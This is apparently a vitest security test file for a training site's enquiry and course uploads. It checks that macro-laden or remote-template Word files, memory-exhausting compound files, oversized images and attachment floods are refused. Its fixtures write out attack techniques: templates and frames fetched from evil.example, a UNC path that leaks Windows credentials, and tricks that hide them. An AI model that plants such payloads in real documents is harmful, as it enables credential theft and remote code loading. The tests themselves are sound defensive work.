import { spawnSync } from "node:child_process";
import fs from "node:fs";
import { createRequire } from "node:module";
import os from "node:os";
import path from "node:path";
import sharp from "sharp";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it, vi } from "vitest";
import { COURSE_IMAGE_RULE, COURSE_SYLLABUS_RULE } from "~/web/course-upload.server";
import { ENQUIRY_UPLOAD_RULE } from "~/web/site-forms.server";
import { loadEnv } from "~/env.server";
import { RESCAN_MS, reserveAttachmentSpace } from "~/infra/attachment-quota.server";
import { uploadWorkLoad } from "~/infra/file-checks/index.server";
import { parseMultipart, type MultipartResult } from "~/infra/uploads.server";
import { filesOnDisk, uploadRoot } from "../helpers/stored-files";
import { pageEnquiries } from "~/models/enquiry.server";
import { action as enquiryAction } from "~/routes/_site.enquiry";
import { IMAGE_TYPE_MESSAGE, SYLLABUS_TYPE_MESSAGE } from "~/schemas/course";
import { ENQUIRY_ATTACHMENTS_FULL_MESSAGE, ENQUIRY_FILE_MAX_BYTES, ENQUIRY_FILE_TYPE_MESSAGE } from "~/schemas/enquiry";
import { clearTables, useTestDatabase as setupTestDatabase } from "../helpers/db";
import { compoundFile, cyclicCompoundFile, docx, multipartRequest as partsRequest, PDF } from "./upload-fixtures";
import { callAction, multipartRequest } from "./public-helpers";

/**
 * Uploads from people who mean harm: Word files that run macros or fetch from elsewhere, images and
 * files that burn the CPU, and enough attachments to fill the disk. Real files, a real upload folder,
 * the real /enquiry action.
 */

// Before anything reads the environment: a 1 MB ceiling for enquiry attachments, so a few files reach it.
vi.hoisted(() => {
  process.env.ENQUIRY_ATTACHMENT_QUOTA_MB = "1";
});

setupTestDatabase();

const RULES = [COURSE_IMAGE_RULE, COURSE_SYLLABUS_RULE, ENQUIRY_UPLOAD_RULE];

async function upload(field: string, filename: string, data: Buffer): Promise<MultipartResult> {
  return parseMultipart(partsRequest([{ name: field, filename, data }]), RULES);
}

afterEach(() => fs.rmSync(uploadRoot(), { recursive: true, force: true }));

describe("Word 97-2003 files (.doc) are read as compound files", () => {
  it("accepts a Word file as an attachment and as a syllabus", async () => {
    for (const [field, name] of [
      ["filePaths", "cv.doc"],
      ["syllabusFile", "syllabus.doc"],
    ]) {
      const r = await upload(field, name, compoundFile(true));
      expect(r.errors).toEqual({});
      expect(r.files[0].mime).toBe("application/msword");
    }
  });

  const macros: [string, string[]][] = [
    ["a Word macro project (Macros/VBA/dir)", ["Macros/VBA/dir", "Macros/VBA/ThisDocument"]],
    ["an Office VBA project (_VBA_PROJECT_CUR/VBA/dir)", ["_VBA_PROJECT_CUR/VBA/dir", "_VBA_PROJECT_CUR/VBA/_VBA_PROJECT"]],
    ["a VBA storage elsewhere", ["Tools/VBA/dir"]],
  ];
  for (const [label, streams] of macros) {
    it(`refuses ${label}, as an attachment and as a syllabus, with each kind's type message`, async () => {
      const file = compoundFile(true, streams);
      expect((await upload("filePaths", "cv.doc", file)).errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
      expect((await upload("syllabusFile", "s.doc", file)).errors.syllabusFile).toBe(SYLLABUS_TYPE_MESSAGE);
      expect(filesOnDisk()).toEqual([]);
    });
  }

  it("refuses an embedded OLE object (ObjectPool) in an attachment, but takes it in a staff syllabus", async () => {
    const file = compoundFile(true, ["ObjectPool/_1234/\u0001Ole10Native"]);
    expect((await upload("filePaths", "cv.doc", file)).errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
    expect((await upload("syllabusFile", "s.doc", file)).errors).toEqual({});
  });

  it("refuses a compound file without the WordDocument stream (an installer or spreadsheet named .doc)", async () => {
    expect((await upload("filePaths", "cv.doc", compoundFile(false, ["Workbook"]))).errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
  });

  it("refuses a file whose sector chain loops (it would exhaust the parser's memory) and carries on serving", async () => {
    // The fixture is what it claims: cfb alone, in a process of its own, dies on it.
    const file = path.join(os.tmpdir(), `cyclic-${process.pid}.doc`);
    fs.writeFileSync(file, cyclicCompoundFile());
    const direct = spawnSync(
      process.execPath,
      [
        "--max-old-space-size=32",
        "-e",
        `require(${JSON.stringify(createRequire(import.meta.url).resolve("cfb"))}).read(require("fs").readFileSync(${JSON.stringify(file)}))`,
      ],
      { encoding: "utf8", timeout: 20_000 },
    );
    fs.rmSync(file);
    expect(direct.stderr).toMatch(/heap out of memory/);

    const started = Date.now();
    const r = await upload("filePaths", "cv.doc", cyclicCompoundFile());
    expect(r.errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
    expect(Date.now() - started).toBeLessThan(10_000);
    // This process is the one that would have died: it still answers.
    expect((await upload("filePaths", "ok.doc", compoundFile(true))).errors).toEqual({});
  });
});

const REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const rels = (body: string, encoding: "utf8" | "utf16le" = "utf8") => {
  const xml = `<?xml version="1.0" encoding="${encoding === "utf8" ? "UTF-8" : "UTF-16"}"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${body}</Relationships>`;
  return encoding === "utf8" ? Buffer.from(xml) : Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml, "utf16le")]);
};
const relationship = (type: string, target: string, external = true) =>
  `<Relationship Id="rId1" Type="${REL_NS}/${type}" Target="${target}"${external ? ' TargetMode="External"' : ""}/>`;
const settingsRels = (body: string, encoding?: "utf8" | "utf16le"): Buffer => docx([{ name: "word/_rels/settings.xml.rels", data: rels(body, encoding) }]);

describe("DOCX files that run macros or fetch from elsewhere", () => {
  const refusedEverywhere: [string, () => Buffer][] = [
    [
      "a macro-enabled document type in [Content_Types].xml",
      () =>
        docx(
          [],
          Buffer.from(
            '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
          ),
        ),
    ],
    [
      "a VBA project under another name",
      () =>
        docx([
          {
            name: "word/_rels/document.xml.rels",
            data: rels(relationship("vbaProject", "payload.dat", false).replace(REL_NS, "http://schemas.microsoft.com/office/2006/relationships")),
          },
        ]),
    ],
    ["a remote template over HTTP (settings.xml.rels)", () => settingsRels(relationship("attachedTemplate", "https://evil.example/t.dotm"))],
    [
      "a remote template on a UNC path (leaks the reader's Windows credentials)",
      () => settingsRels(relationship("attachedTemplate", "\\\\203.0.113.9\\share\\t.dotm")),
    ],
    ["a remote template on a file:// host", () => settingsRels(relationship("attachedTemplate", "file://203.0.113.9/share/t.dotm"))],
    [
      "a remote template hidden behind character references",
      () =>
        settingsRels(
          relationship("attachedTemplate", "https://evil.example/t.dotm")
            .replace('"External"', '"Ext&#101;rnal"')
            .replace("attachedTemplate", "attached&#x54;emplate"),
        ),
    ],
    ["a remote template in a UTF-16 relationship part", () => settingsRels(relationship("attachedTemplate", "https://evil.example/t.dotm"), "utf16le")],
    [
      'a remote template with ">" in a value before TargetMode',
      () => settingsRels(`<Relationship Id="r" Type="${REL_NS}/attachedTemplate" Target="https://evil.example/?a>b" TargetMode="External"/>`),
    ],
    [
      "a remote frame (webSettings.xml.rels)",
      () => docx([{ name: "word/_rels/webSettings.xml.rels", data: rels(relationship("frame", "https://evil.example/f.html")) }]),
    ],
    ["a remote sub-document", () => docx([{ name: "word/_rels/document.xml.rels", data: rels(relationship("subDocument", "https://evil.example/s.docx")) }])],
    ["a linked remote OLE object", () => docx([{ name: "word/_rels/document.xml.rels", data: rels(relationship("oleObject", "https://evil.example/o.rtf")) }])],
  ];
  for (const [label, make] of refusedEverywhere) {
    it(`refuses ${label}, as an attachment and as a syllabus`, async () => {
      const file = make();
      expect((await upload("filePaths", "cv.docx", file)).errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
      expect((await upload("syllabusFile", "s.docx", file)).errors.syllabusFile).toBe(SYLLABUS_TYPE_MESSAGE);
      expect(filesOnDisk()).toEqual([]);
    });
  }

  const embedded: [string, () => Buffer][] = [
    ["an embedded OLE object (word/embeddings/*.bin)", () => docx([{ name: "word/embeddings/oleObject1.bin", data: compoundFile(false) }])],
    [
      "an embedded OLE object by relationship",
      () => docx([{ name: "word/_rels/document.xml.rels", data: rels(relationship("oleObject", "embeddings/object.dat", false)) }]),
    ],
    ["an embedded macro-enabled workbook", () => docx([{ name: "word/embeddings/Book1.xlsm", data: Buffer.from("PK") }])],
    ["an ActiveX control", () => docx([{ name: "word/activeX/activeX1.xml", data: Buffer.from("<ax/>") }])],
  ];
  for (const [label, make] of embedded) {
    it(`refuses ${label} in an attachment, but takes it in a staff syllabus`, async () => {
      const file = make();
      expect((await upload("filePaths", "cv.docx", file)).errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
      expect((await upload("syllabusFile", "s.docx", file)).errors).toEqual({});
    });
  }

  it("accepts an ordinary CV: web links and a chart's workbook", async () => {
    const file = docx([
      {
        name: "word/_rels/document.xml.rels",
        data: rels(relationship("hyperlink", "https://www.linkedin.com/in/ravi") + relationship("image", "media/image1.png", false).replace("rId1", "rId2")),
      },
      { name: "word/embeddings/Microsoft_Excel_Worksheet.xlsx", data: Buffer.from("PK") },
    ]);
    const r = await upload("filePaths", "cv.docx", file);
    expect(r.errors).toEqual({});
    expect(r.files).toHaveLength(1);
  });

  it("refuses a template named by a file: path, even one on the author's own disk", async () => {
    const file = docx([
      {
        name: "word/_rels/settings.xml.rels",
        data: rels(relationship("attachedTemplate", "file:///C:\\Users\\ravi\\AppData\\Roaming\\Microsoft\\Templates\\Resume.dotx")),
      },
    ]);
    expect((await upload("filePaths", "cv.docx", file)).errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
  });

  it("refuses a relationship part too large to be a real one", async () => {
    // Stored, not deflated, so the archive's ratio check does not refuse it first.
    const padded = docx([{ name: "word/_rels/settings.xml.rels", data: rels(`<!-- ${"x".repeat(1024 * 1024)} -->`), store: true }]);
    expect((await upload("syllabusFile", "s.docx", padded)).errors.syllabusFile).toBe(SYLLABUS_TYPE_MESSAGE);
  });
});

async function noiseJpeg(width: number, height: number): Promise<Buffer> {
  const raw = Buffer.alloc(width * height * 3);
  for (let i = 0; i < raw.length; i++) raw[i] = (i * 2654435761) >>> 24;
  return sharp(raw, { raw: { width, height, channels: 3 } })
    .jpeg({ quality: 70 })
    .toBuffer();
}

/** 5001 × 5000 grey pixels: just over 25 million, in a PNG of a few dozen kilobytes. */
function overTwentyFiveMegapixels(): Promise<Buffer> {
  return sharp(Buffer.alloc(5001 * 5000, 0x80), { raw: { width: 5001, height: 5000, channels: 1 } })
    .png({ compressionLevel: 9 })
    .toBuffer();
}

describe("images cannot keep the CPU busy", () => {
  it("refuses an attachment photo over 25 megapixels with the type message; staff may still upload it as a course image", async () => {
    const big = await overTwentyFiveMegapixels();
    expect(big.length).toBeLessThan(ENQUIRY_FILE_MAX_BYTES);
    const attached = await upload("filePaths", "scan.png", big);
    expect(attached.errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
    expect(filesOnDisk()).toEqual([]);
    const course = await upload("image", "cover.png", big);
    expect(course.errors).toEqual({});
  });

  it("answers three such photos in one enquiry with the type message too", async () => {
    const big = await overTwentyFiveMegapixels();
    const parts = ["a", "b", "c"].map((n) => ({ name: "filePaths", filename: `${n}.png`, data: big }));
    const r = await parseMultipart(partsRequest(parts), RULES);
    expect(r.errors.filePaths).toBe(ENQUIRY_FILE_TYPE_MESSAGE);
    expect(filesOnDisk()).toEqual([]);
  });

  it("decodes at most two images at a time; the others wait their turn and are all stored", async () => {
    const photo = await noiseJpeg(1400, 1400);
    let maxRunning = 0;
    let maxWaiting = 0;
    const watch = setInterval(() => {
      const load = uploadWorkLoad();
      maxRunning = Math.max(maxRunning, load.running);
      maxWaiting = Math.max(maxWaiting, load.waiting);
    }, 2);
    try {
      const results = await Promise.all(Array.from({ length: 6 }, (_, i) => upload("image", `cover${i}.jpg`, photo)));
      expect(results.map((r) => r.errors)).toEqual(Array.from({ length: 6 }, () => ({})));
    } finally {
      clearInterval(watch);
    }
    expect(maxRunning).toBe(2);
    expect(maxWaiting).toBeGreaterThan(0);
    expect(uploadWorkLoad()).toEqual({ running: 0, waiting: 0 });
  });

  it("decodes nothing for a save that is refused already (one file too many)", async () => {
    const slow = await noiseJpeg(2400, 2400);
    let maxRunning = 0;
    const watch = setInterval(() => (maxRunning = Math.max(maxRunning, uploadWorkLoad().running)), 2);
    try {
      const r = await parseMultipart(
        partsRequest([
          { name: "image", filename: "a.jpg", data: slow },
          { name: "image", filename: "b.jpg", data: slow },
        ]),
        RULES,
      );
      expect(r.errors.image).toBe(IMAGE_TYPE_MESSAGE);
      expect(r.files).toEqual([]);
    } finally {
      clearInterval(watch);
    }
    expect(maxRunning).toBe(0);
    expect(filesOnDisk()).toEqual([]);
  });

  it("drops the waiting work of a request whose visitor has gone, and keeps none of its files", async () => {
    const [slow, photo] = await Promise.all([noiseJpeg(2400, 2400), noiseJpeg(400, 400)]);
    const busy = [upload("image", "a.jpg", slow), upload("image", "b.jpg", slow)];
    await vi.waitUntil(() => uploadWorkLoad().running === 2, { timeout: 10_000, interval: 2 });
    const visitor = new AbortController();
    const request = new Request(partsRequest([{ name: "image", filename: "c.jpg", data: photo }]), { signal: visitor.signal });
    const gone = parseMultipart(request, RULES).then(
      () => null,
      (e: unknown) => e,
    );
    await vi.waitUntil(() => uploadWorkLoad().waiting > 0, { timeout: 10_000, interval: 2 });
    visitor.abort();
    expect(await gone).toMatchObject({ name: "AbortError" });
    expect((await Promise.all(busy)).map((r) => r.files.length)).toEqual([1, 1]);
    expect(filesOnDisk().filter((f) => f.startsWith("images"))).toHaveLength(2);
  });
});

const enquiry = {
  intent: "enquiry",
  fullName: "Ravi Kumar",
  email: "ravi@example.com",
  phone: "98765 43210",
  preferredCourse: "SOC Analyst Training Program",
  preferredMode: "online",
  message: "Weekend batch",
};
/** A real PDF of about `kb` kilobytes. */
const pdfOf = (kb: number) => Buffer.concat([PDF, Buffer.alloc(kb * 1024 - PDF.length, 0x20)]);
const attachmentsOnDisk = () => filesOnDisk().filter((f) => f.startsWith("enquiries"));

function sendEnquiry(files: Buffer[], fields: Record<string, string> = {}) {
  const parts = files.map((data, i) => ({ field: "filePaths", name: `cv${i}.pdf`, type: "application/pdf", data }));
  return callAction(enquiryAction, multipartRequest("/enquiry", { ...enquiry, ...fields }, parts));
}

/** What another instance, or earlier days, left in the attachment folder. */
function existingAttachment(kb: number) {
  const dir = path.join(uploadRoot(), "enquiries");
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(path.join(dir, `${"a".repeat(32)}-old.pdf`), pdfOf(kb));
}

describe("a ceiling on the space enquiry attachments take (ENQUIRY_ATTACHMENT_QUOTA_MB=1 here)", () => {
  // Each test starts on an empty folder, and the clock moves on past the quota's rescan so it sees that.
  // The clock starts when these tests start, not when the file was loaded: tests before them may take longer than
  // a rescan (a loaded machine), and a clock set behind the last scan would never see the folder again.
  let clock = 0;
  beforeAll(() => {
    clock = Date.now();
    vi.useFakeTimers({ toFake: ["Date"] });
  });
  afterAll(() => vi.useRealTimers());
  beforeEach(async () => {
    clock += RESCAN_MS + 1000;
    vi.setSystemTime(clock);
    await clearTables();
  });

  it("refuses files that would go over it with a message of its own, keeps none, and gives back what was typed", async () => {
    existingAttachment(950);
    const out = await sendEnquiry([pdfOf(60), pdfOf(60)]);
    expect(out.status).toBe(400);
    expect(out.body.fileError).toBe(ENQUIRY_ATTACHMENTS_FULL_MESSAGE);
    expect(out.body.submission.initialValue).toMatchObject({ fullName: "Ravi Kumar", email: "ravi@example.com", message: "Weekend batch" });
    expect(attachmentsOnDisk()).toHaveLength(1);
    expect((await pageEnquiries()).total).toBe(0);

    // The way out the message offers: the same enquiry without files goes through.
    const withoutFiles = await sendEnquiry([]);
    expect(withoutFiles.body).toMatchObject({ status: "success" });
    expect((await pageEnquiries()).total).toBe(1);
  });

  it("counts what was stored since the folder was last scanned", async () => {
    expect((await sendEnquiry([pdfOf(600)])).body).toMatchObject({ status: "success" });
    const second = await sendEnquiry([pdfOf(600)]);
    expect(second.body.fileError).toBe(ENQUIRY_ATTACHMENTS_FULL_MESSAGE);
    expect(attachmentsOnDisk()).toHaveLength(1);
  });

  it("gives back the space of files that came with a form that was refused", async () => {
    const invalid = await sendEnquiry([pdfOf(600)], { fullName: "" });
    expect(invalid.body.fileError).toBe("Please attach your files again.");
    expect((await sendEnquiry([pdfOf(600)])).body).toMatchObject({ status: "success" });
    expect((await pageEnquiries()).total).toBe(1);
  });

  it("lets only one of two uploads at the same moment take the last space", async () => {
    const [a, b] = await Promise.all([sendEnquiry([pdfOf(600)]), sendEnquiry([pdfOf(600)])]);
    expect([a.body.status, b.body.status].sort()).toEqual(["error", "success"]);
    expect([a.body.fileError, b.body.fileError]).toContain(ENQUIRY_ATTACHMENTS_FULL_MESSAGE);
    expect(attachmentsOnDisk()).toHaveLength(1);
  });

  it("does not trust a scan that was under way before a file arrived: the next request waits for a fresh one", async () => {
    const first = reserveAttachmentSpace("enquiries", 0); // starts the scan that is due
    existingAttachment(950); // lands while that scan may be reading the folder
    const second = reserveAttachmentSpace("enquiries", 100 * 1024);
    (await first)?.settle(0);
    expect(await second).toBeNull();
  });

  it("sees files stored by another instance from its next scan, within a minute", async () => {
    expect((await sendEnquiry([pdfOf(100)])).body).toMatchObject({ status: "success" });
    existingAttachment(900);
    clock += RESCAN_MS + 1000;
    vi.setSystemTime(clock);
    expect((await sendEnquiry([pdfOf(100)])).body.fileError).toBe(ENQUIRY_ATTACHMENTS_FULL_MESSAGE);
  });

  it("is a whole number of megabytes of at least 1, 2048 by default", () => {
    expect(loadEnv({}).ENQUIRY_ATTACHMENT_QUOTA_MB).toBe(2048);
    expect(loadEnv({ ENQUIRY_ATTACHMENT_QUOTA_MB: "512" }).ENQUIRY_ATTACHMENT_QUOTA_MB).toBe(512);
    for (const bad of ["0", "-5", "1.5", "lots"]) {
      expect(() => loadEnv({ ENQUIRY_ATTACHMENT_QUOTA_MB: bad })).toThrow(/ENQUIRY_ATTACHMENT_QUOTA_MB: must be a whole number of megabytes/);
    }
  });
});
